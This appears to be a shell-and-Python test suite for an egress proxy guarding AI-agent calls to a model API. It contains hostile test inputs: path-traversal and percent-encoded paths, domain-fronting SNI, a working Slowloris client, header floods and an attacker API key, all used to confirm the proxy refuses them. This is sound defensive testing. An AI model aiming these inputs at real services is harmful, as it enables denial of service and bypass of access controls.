# Dot segments and percent-encoding are canonicalized before the gate sees the path, and the
# canonical path is what goes upstream: what was decided is what is sent.
for path in /v1/messages/../files /v1/messages/./../files /v1/messages/%2e%2e/files /v1/messages/%2E%2E/files \
  /v1/x/../../v1/files; do
  upstream_mark
  OUT=$(tunnel_post "$path")
  expect_raw_denied "strict: $path" deny.sink.path_not_allowed
done
upstream_mark
OUT=$(tunnel_post /v1/%6Dessages)
expect_eq "strict: /v1/%6Dessages is /v1/messages: allowed" "$(jget status <<<"$OUT")" 200
expect_eq "strict: /v1/%6Dessages goes upstream as the decided path" "$(new_upstream_lines | tail -n 1 | jget path)" /v1/messages
upstream_mark
OUT=$(tunnel_post /v1/files/../messages)
expect_eq "strict: /v1/files/../messages is /v1/messages: allowed" "$(jget status <<<"$OUT")" 200
expect_eq "strict: /v1/files/../messages goes upstream as /v1/messages" "$(new_upstream_lines | tail -n 1 | jget path)" /v1/messages
# Paths are case-sensitive (RFC 3986 §6.2.2.1): /V1/messages is another path.
upstream_mark
OUT=$(tunnel_post /V1/messages)
expect_raw_denied "strict: /V1/messages" deny.sink.path_not_allowed
# An encoded slash is not a slash: no segment to remove, and not the allowed path.
upstream_mark
OUT=$(tunnel_post /v1/messages%2F..%2Ffiles)
expect_raw_denied "strict: /v1/messages%2F..%2Ffiles" deny.sink.path_not_allowed
# The same through curl with --path-as-is (curl would otherwise remove the dots itself).
upstream_mark
preq --path-as-is -H "x-api-key: $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages/../files"
expect_denied "strict: curl --path-as-is /v1/messages/../files" deny.sink.path_not_allowed

# Upper case and a trailing dot in the CONNECT host, the SNI and the Host header: all the same
# host once canonical; upstream sees the canonical name (Host header and SNI).
UA="API.ANTHROPIC.COM.:$UP_HTTPS"
upstream_mark
OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' \
  "$UA" "$ORG_KEY" | raw_http --connect "$UA" --tls API.ANTHROPIC.COM. --cacert "$AIRLOCK_CA" --no-hostname-check "$PROXY_PORT")
expect_eq "upper case + trailing dot host: CONNECT" "$(jget connect_status <<<"$OUT")" 200
expect_eq "upper case + trailing dot host: status" "$(jget status <<<"$OUT")" 200
L=$(new_upstream_lines | tail -n 1)
expect_eq "upper case + trailing dot host: arrived" "$(new_upstream_requests)" 1
expect_eq "upper case + trailing dot host: Host upstream" "$(jget headers.host <<<"$L")" "$A"
expect_eq "upper case + trailing dot host: SNI upstream" "$(jget sni <<<"$L")" api.anthropic.com
# a trailing-dot, upper-case Host inside a tunnel to the plain name, and the other way round
upstream_mark
OUT=$(tunnel_post /v1/messages "$UA")
expect_eq "tunnel to the plain name, Host upper case + dot: status" "$(jget status <<<"$OUT")" 200
expect_eq "tunnel to the plain name, Host upper case + dot: Host upstream" "$(new_upstream_lines | tail -n 1 | jget headers.host)" "$A"
upstream_mark
OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' \
  "$A" "$ATTACKER_KEY" | raw_http --connect "$UA" --tls api.anthropic.com --cacert "$AIRLOCK_CA" "$PROXY_PORT")
expect_raw_denied "upper case + trailing dot host, attacker key" deny.sink.credential_mismatch
# plain http: absolute-form URL and Host in upper case with a trailing dot
UF="FILES.EXAMPLE.COM.:$UP_HTTP"
upstream_mark
OUT=$(printf 'GET http://%s/Case-Host HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' "$UF" "$UF" | raw_http "$PROXY_PORT")
expect_eq "plain upper case + trailing dot host: status" "$(jget status <<<"$OUT")" 200
L=$(new_upstream_lines | tail -n 1)
expect_eq "plain upper case + trailing dot host: Host upstream" "$(jget headers.host <<<"$L")" "$F"
expect_eq "plain upper case + trailing dot host: path upstream (case kept)" "$(jget path <<<"$L")" /Case-Host
upstream_mark
OUT=$(printf 'GET http://UNKNOWN.EXAMPLE.NET.:%s/ HTTP/1.1\r\nHost: UNKNOWN.EXAMPLE.NET.:%s\r\nConnection: close\r\n\r\n' \
  "$UP_HTTP" "$UP_HTTP" | raw_http "$PROXY_PORT")
expect_raw_denied "plain upper case + trailing dot unknown host" deny.sink.unknown

# A ClientHello without SNI (python ssl, server_hostname=None): the tunnel is closed without an
# answer and nothing reaches upstream.
upstream_mark
OUT=$(python3 - "$PROXY_PORT" "$A" <<'PY'
import json, socket, ssl, sys
port, target = int(sys.argv[1]), sys.argv[2]
out = {"connect_status": None, "handshake": None}
s = socket.create_connection(("127.0.0.1", port), timeout=10)
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
buf = b""
while b"\r\n\r\n" not in buf:
    d = s.recv(4096)
    if not d:
        break
    buf += d
out["connect_status"] = int(buf.split(b" ")[1]) if buf.startswith(b"HTTP/1.1 ") else None
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname=None)
    t.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: " + target.encode() + b"\r\nContent-Length: 2\r\n\r\n{}")
    out["handshake"] = "completed; answer: %r" % t.recv(200)
except (ssl.SSLError, OSError) as e:
    out["handshake"] = "failed"
    out["error"] = type(e).__name__
print(json.dumps(out))
PY
)
expect_eq "no SNI: CONNECT answered" "$(jget connect_status <<<"$OUT")" 200
expect_eq "no SNI: the TLS handshake fails (connection closed)" "$(jget handshake <<<"$OUT")" failed
expect_nothing_upstream "no SNI"
expect_eq "no SNI: no connection upstream" "$(new_upstream_conns)" 0

# A tunnel to an IP literal that a sink names: TLS clients send no SNI for an address (RFC 6066),
# and that is the only ClientHello such a tunnel takes. curl verifies the upstream's IP SAN
# through it; every spelling of the address is the same tunnel; a ClientHello naming a host
# (fronting) is refused without a byte upstream.
upstream_mark
_lp_req tcurl --data-binary @"$WORK/text.txt" "https://127.0.0.1:$UP_HTTPS/by-address"
expect_arrived "tunnel to 127.0.0.1" POST /by-address "$WORK/text.txt"
expect_eq "tunnel to 127.0.0.1: no SNI upstream" "$(jget sni <<<"$UP_LINE")" ""
for target in "2130706433:$UP_HTTPS" "[::ffff:127.0.0.1]:$UP_HTTPS"; do
  upstream_mark
  OUT=$(printf 'GET /by-address HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nConnection: close\r\n\r\n' "$UP_HTTPS" |
    raw_http --connect "$target" --tls 127.0.0.1 --cacert "$UP_CA" "$PROXY_PORT")
  expect_eq "tunnel to $target: CONNECT answered" "$(jget connect_status <<<"$OUT")" 200
  expect_eq "tunnel to $target: upstream answered" "$(jget status <<<"$OUT")" 200
  expect_eq "tunnel to $target: arrived" "$(new_upstream_requests)" 1
done
upstream_mark
OUT=$(printf 'GET /fronted HTTP/1.1\r\nHost: tunnel.example.com\r\nConnection: close\r\n\r\n' |
  raw_http --connect "127.0.0.1:$UP_HTTPS" --tls tunnel.example.com --cacert "$UP_CA" "$PROXY_PORT")
expect_eq "SNI to an address tunnel: CONNECT answered" "$(jget connect_status <<<"$OUT")" 200
[ -n "$(jget error <<<"$OUT")" ] && ok || bad "SNI to an address tunnel: the handshake went through: $OUT"
expect_nothing_upstream "SNI to an address tunnel"
expect_eq "SNI to an address tunnel: no connection upstream" "$(new_upstream_conns)" 0
"$AIRLOCK" audit tail -n 5 --json | grep -q 'names tunnel.example.com but the tunnel is to the address 127.0.0.1' &&
  ok || bad "SNI to an address tunnel: refusal not in the audit trail"

# Slowloris: a head sent one byte a second is cut off (--header-timeout 2) with a 408, long
# before it is complete (the client gives up after 20 bytes, about 20 s); nothing reaches upstream.
upstream_mark
OUT=$(python3 - "$PROXY_PORT" "$F" <<'PY'
import json, select, socket, sys
port, host = int(sys.argv[1]), sys.argv[2]
head = ("GET http://%s/slowloris HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (host, host)).encode()
s = socket.create_connection(("127.0.0.1", port), timeout=10)
out = {"head_bytes": len(head), "sent": 0, "closed": False, "answer": ""}
got = b""
for b in head[:20]:
    try:
        s.send(bytes([b]))
        out["sent"] += 1
    except OSError:
        out["closed"] = True
        break
    if select.select([s], [], [], 1.0)[0]:
        try:
            while True:
                d = s.recv(65536)
                if not d:
                    break
                got += d
        except OSError:
            pass
        out["closed"] = True
        break
out["answer"] = got.split(b"\r\n", 1)[0].decode("latin-1")
print(json.dumps(out))
PY
)
expect_eq "slowloris: the proxy closed the connection" "$(jget closed <<<"$OUT")" true
[ "$(jget sent <<<"$OUT")" -lt "$(jget head_bytes <<<"$OUT")" ] && ok || bad "slowloris: the whole head was sent: $OUT"
case "$(jget answer <<<"$OUT")" in "HTTP/1.1 408 "*) ok ;; *) bad "slowloris: answer [$(jget answer <<<"$OUT")], want 408" ;; esac
expect_nothing_upstream "slowloris"
# the same proxy still serves a client that sends its head at once
upstream_mark
preq "http://$F/after-slowloris"
expect_eq "after slowloris: a normal request passes" "$CODE" 200
expect_eq "after slowloris: it arrived" "$(new_upstream_requests)" 1
# The same inside an inspected tunnel: the 408 goes back over the client's TLS.
upstream_mark
OUT=$(python3 - "$PROXY_PORT" "$A" "$AIRLOCK_CA" <<'PY'
import json, socket, ssl, sys, time
port, target, ca = int(sys.argv[1]), sys.argv[2], sys.argv[3]
out = {"answer": "", "error": None}
s = socket.create_connection(("127.0.0.1", port), timeout=20)
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
buf = b""
while b"\r\n\r\n" not in buf:
    buf += s.recv(4096)
t = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname=target.split(":")[0])
t.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: " + target.encode() + b"\r\nx-api")  # and then nothing
got = b""
try:
    while True:
        d = t.recv(65536)
        if not d:
            break
        got += d
except (OSError, ssl.SSLError) as e:
    out["error"] = type(e).__name__
out["answer"] = got.split(b"\r\n", 1)[0].decode("latin-1")
print(json.dumps(out))
PY
)
case "$(jget answer <<<"$OUT")" in "HTTP/1.1 408 "*) ok ;; *) bad "slow head in a tunnel: answer [$OUT], want 408" ;; esac
expect_nothing_upstream "slow head in a tunnel"

# A pass-through tunnel stays open while bytes move in either direction, and is closed once
# nothing has moved for the idle limit (hidden --idle-timeout 3 here, 120 s by default).
OUT=$(python3 - "$PROXY_PORT" "$T" "$UP_CA" <<'PY'
import json, socket, ssl, sys, time
port, target, ca = int(sys.argv[1]), sys.argv[2], sys.argv[3]
host = target.rsplit(":", 1)[0]
s = socket.create_connection(("127.0.0.1", port), timeout=60)
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
out = {"connect": head.split(b" ")[1].decode(), "answered": 0, "closed": False}
t = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname=host)

def get(path):
    t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, target)).encode())
    data = b""
    while b"\r\n\r\n" not in data:
        data += t.recv(65536)
    h, _, body = data.partition(b"\r\n\r\n")
    n = int([l.split(b":")[1] for l in h.split(b"\r\n") if l.lower().startswith(b"content-length:")][0])
    while len(body) < n:
        body += t.recv(65536)
    return h.split(b" ")[1].decode()

# Seven requests one second apart: 7 s in all, over twice the idle limit, never idle 3 s.
for i in range(7):
    if get("/busy-%d" % i) == "200":
        out["answered"] += 1
    time.sleep(1)
# Then silence: the proxy must close the tunnel (the client gives up after 60 s).
t.settimeout(60)
try:
    out["closed"] = t.recv(1) == b""
except (ssl.SSLError, OSError):
    out["closed"] = True
print(json.dumps(out))
PY
)
expect_eq "idle tunnel: CONNECT answered" "$(jget connect <<<"$OUT")" 200
expect_eq "idle tunnel: a busy tunnel outlives the idle limit" "$(jget answered <<<"$OUT")" 7
expect_eq "idle tunnel: a silent tunnel is closed" "$(jget closed <<<"$OUT")" true

# A head over 64 KiB: 431, nothing upstream.
upstream_mark
OUT=$(python3 -c 'import sys
sys.stdout.write("GET http://%s/big-head HTTP/1.1\r\nHost: %s\r\nX-Big: %s\r\nConnection: close\r\n\r\n" % (sys.argv[1], sys.argv[1], "a" * 70000))' "$F" |
  raw_http "$PROXY_PORT")
expect_eq "head over 64 KiB: status" "$(jget status <<<"$OUT")" 431
expect_eq "head over 64 KiB: error" "$(jget body <<<"$OUT" | jget error)" proxy.bad_request
expect_nothing_upstream "head over 64 KiB"
upstream_mark
OUT=$(python3 -c 'import sys
sys.stdout.write("GET http://%s/many-headers HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (sys.argv[1], sys.argv[1], "X-Many: 0123456789abcdef\r\n" * 3000))' "$F" |
  raw_http "$PROXY_PORT")
expect_eq "3000 header lines (> 64 KiB): status" "$(jget status <<<"$OUT")" 431
expect_nothing_upstream "3000 header lines"

# A 20 MB upload through inspection with the org key arrives byte for byte.
python3 -c 'import sys
line = "upload line %08d, plain words and nothing else\n"
n = (20 * 1000 * 1000) // len(line % 0) + 1
sys.stdout.write("".join(line % i for i in range(n)))' >"$WORK/upload20.txt"
upstream_mark
preq -H "x-api-key: $ORG_KEY" -H 'content-type: text/plain' --data-binary @"$WORK/upload20.txt" "https://$A/v1/messages"
expect_arrived "20 MB upload with the org key" POST /v1/messages "$WORK/upload20.txt"
expect_eq "20 MB upload: over TLS" "$(jget tls <<<"$UP_LINE")" true
upstream_mark
preq -H "x-api-key: $ORG_KEY" -H 'Transfer-Encoding: chunked' --data-binary @"$WORK/upload20.txt" "https://$A/v1/messages"
expect_arrived "20 MB chunked upload with the org key" POST /v1/messages "$WORK/upload20.txt"
upstream_mark
preq -H "x-api-key: $ATTACKER_KEY" --data-binary @"$WORK/upload20.txt" "https://$A/v1/messages"
expect_denied "20 MB upload with the attacker key" deny.sink.credential_mismatch

stop_proxy
grep -qE 'AddressSanitizer|LeakSanitizer|runtime error:' "$PROXY_LOG" &&
  bad "sanitizer report in the strict proxy's output: $(head -c 2000 "$PROXY_LOG")" || ok
for key in "$ATTACKER_KEY" "$ORG_KEY"; do
  grep -qF -- "$key" "$PROXY_LOG" && bad "a key is in the strict proxy's output" || ok
done

# --- (j) identities from Proxy-Authorization (--clients): every request must name its client
ALICE_TOKEN="alice-proxy-""token-7f3e"
MALLORY_TOKEN="mallory-proxy-""token-0000"
{
  echo "# clients of this proxy"
  printf '%s alice cowork s-alice\n' "$(printf '%s' "$ALICE_TOKEN" | sha256sum | cut -d' ' -f1)"
} >"$WORK/clients.txt"
CLIENT_ARGS=(--policy "$POLICY" --resolve "$A:127.0.0.1" --resolve "$F:127.0.0.1" --upstream-ca "$UP_CA"
  --clients "$WORK/clients.txt")
start_proxy "${CLIENT_ARGS[@]}"
upstream_mark
preq "http://$F/hello-client"
expect_eq "no proxy credentials: 407" "$CODE" 407
expect_nothing_upstream "no proxy credentials"
preq --proxy-user "alice:$MALLORY_TOKEN" "http://$F/hello-client"
expect_eq "unknown proxy token: 407" "$CODE" 407
expect_nothing_upstream "unknown proxy token"
preq --proxy-user "bob:$ALICE_TOKEN" "http://$F/hello-client"
expect_eq "alice's token under another name: 407" "$CODE" 407
expect_nothing_upstream "alice's token under another name"
preq --proxy-user "alice:$ALICE_TOKEN" "http://$F/hello-client"
expect_eq "alice's token: plain request passes" "$CODE" 200
preq --proxy-user "alice:$ALICE_TOKEN" -H "x-api-key: $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_eq "alice's token: inspected request passes" "$CODE" 200
preq --proxy-user "alice:$MALLORY_TOKEN" -H "x-api-key: $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_eq "CONNECT with an unknown token: 407" "$CONNECT_CODE" 407
TRAIL=$("$AIRLOCK" audit tail -n 12 --json)
expect_contains "the audit names the client's user and session" "$TRAIL" '"session":"s-alice"'
expect_contains "refused credentials are on record" "$TRAIL" 'proxy credentials'
for t in "$ALICE_TOKEN" "$MALLORY_TOKEN"; do
  expect_not_contains "no proxy token in the audit trail" "$("$AIRLOCK" audit export --format jsonl)" "$t"
  grep -qF -- "$t" "$PROXY_LOG" && bad "a proxy token is in the proxy's output" || ok
done
stop_proxy
expect_contains "smuggling attempts are on record" "$("$AIRLOCK" audit export --format jsonl)" 'ambiguous request framing'

# --- (k) the system's trust store (no --upstream-ca): roots looked up by subject hash in
#     SSL_CERT_DIR, or loaded whole when SSL_CERT_FILE names another bundle; an upstream that no
#     root vouches for gets nothing.
mkdir -p "$WORK/certdir" "$WORK/otherca"
cp "$UP_CA" "$WORK/certdir/test-ca.pem"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/otherca/ca.key" \
  -out "$WORK/otherca/ca.pem" -days 1 -subj "/CN=airlock test unrelated CA" 2>/dev/null
openssl rehash "$WORK/certdir" "$WORK/otherca" 2>/dev/null
ls "$WORK/certdir" | grep -qE '^[0-9a-f]{8}\.0$' && ok || bad "openssl rehash made no hashed link"
SAVED_CERT_FILE=${SSL_CERT_FILE-}
SAVED_CERT_DIR=${SSL_CERT_DIR-}
SYS_ARGS=(--policy "$POLICY" --user alice --agent cowork --session s-sys --resolve "$A:127.0.0.1")
# trust_case NAME SSL_CERT_FILE SSL_CERT_DIR EXPECT: the model call through a proxy started with
# that environment arrives (EXPECT=arrives) or is answered 502 with nothing upstream.
trust_case() {
  unset SSL_CERT_FILE SSL_CERT_DIR
  [ -z "$2" ] || export SSL_CERT_FILE=$2
  [ -z "$3" ] || export SSL_CERT_DIR=$3
  start_proxy "${SYS_ARGS[@]}"
  upstream_mark
  preq -H "x-api-key: $ORG_KEY" -H 'content-type: application/json' \
    --data-binary @"$WORK/message.json" "https://$A/v1/messages"
  if [ "$4" = arrives ]; then
    expect_arrived "$1" POST /v1/messages "$WORK/message.json"
  else
    expect_eq "$1: status" "$CODE" 502
    expect_eq "$1: error" "$(jget error <<<"$BODY")" proxy.upstream_tls
    expect_nothing_upstream "$1"
  fi
  stop_proxy
}
trust_case "roots by hash from SSL_CERT_DIR" "" "$WORK/certdir" arrives
trust_case "roots loaded whole from another SSL_CERT_FILE" "$UP_CA" "$WORK/otherca" arrives
trust_case "no root vouches for the upstream (hashed dir)" "" "$WORK/otherca" refused
trust_case "no root vouches for the upstream (bundle)" "$WORK/otherca/ca.pem" "$WORK/otherca" refused
unset SSL_CERT_FILE SSL_CERT_DIR
[ -z "$SAVED_CERT_FILE" ] || export SSL_CERT_FILE=$SAVED_CERT_FILE
[ -z "$SAVED_CERT_DIR" ] || export SSL_CERT_DIR=$SAVED_CERT_DIR

# --- (l) an inspected tunnel to an address: the client gets a leaf for the IP (its SAN) without
# sending SNI; upstream, airlock sends none either and checks the upstream's IP SAN; each request
# inside is decided as itself.
POLICY_IP="$WORK/policy-ip.yaml"
sed -e 's|^  passthru:$|  by-address:\n    http: { hosts: ["127.0.0.1"], methods: [GET] }\n    clearance: public\n    inspect: true\n  passthru:|' \
  -e 's|sink: \[anthropic-api, plain, local, passthru\]|sink: [anthropic-api, plain, local, passthru, by-address]|g' "$POLICY" >"$POLICY_IP"
[ "$(grep -c 'by-address' "$POLICY_IP")" = 3 ] && ok || bad "ip policy: the by-address sink was not added"
start_proxy --policy "$POLICY_IP" --user alice --agent cowork --session s-ip --upstream-ca "$UP_CA"
upstream_mark
OUT=$(printf 'GET /inspected-by-address HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nConnection: close\r\n\r\n' "$UP_HTTPS" |
  raw_http --connect "127.0.0.1:$UP_HTTPS" --tls 127.0.0.1 --cacert "$AIRLOCK_CA" "$PROXY_PORT")
expect_eq "inspected tunnel to 127.0.0.1: answered" "$(jget status <<<"$OUT")" 200
expect_eq "inspected tunnel to 127.0.0.1: arrived" "$(new_upstream_requests)" 1
UP_LINE=$(new_upstream_lines | tail -n 1)
expect_eq "inspected tunnel to 127.0.0.1: path upstream" "$(jget path <<<"$UP_LINE")" /inspected-by-address
expect_eq "inspected tunnel to 127.0.0.1: no SNI upstream" "$(jget sni <<<"$UP_LINE")" ""
expect_eq "inspected tunnel to 127.0.0.1: over TLS upstream" "$(jget tls <<<"$UP_LINE")" true
# A POST inside is a request of its own, and the sink allows GET only.
upstream_mark
OUT=$(printf 'POST /inspected-by-address HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' "$UP_HTTPS" |
  raw_http --connect "127.0.0.1:$UP_HTTPS" --tls 127.0.0.1 --cacert "$AIRLOCK_CA" "$PROXY_PORT")
expect_eq "inspected tunnel to 127.0.0.1: a POST inside is refused" "$(jget status <<<"$OUT")" 403
expect_nothing_upstream "inspected tunnel to 127.0.0.1: POST"
stop_proxy

finish
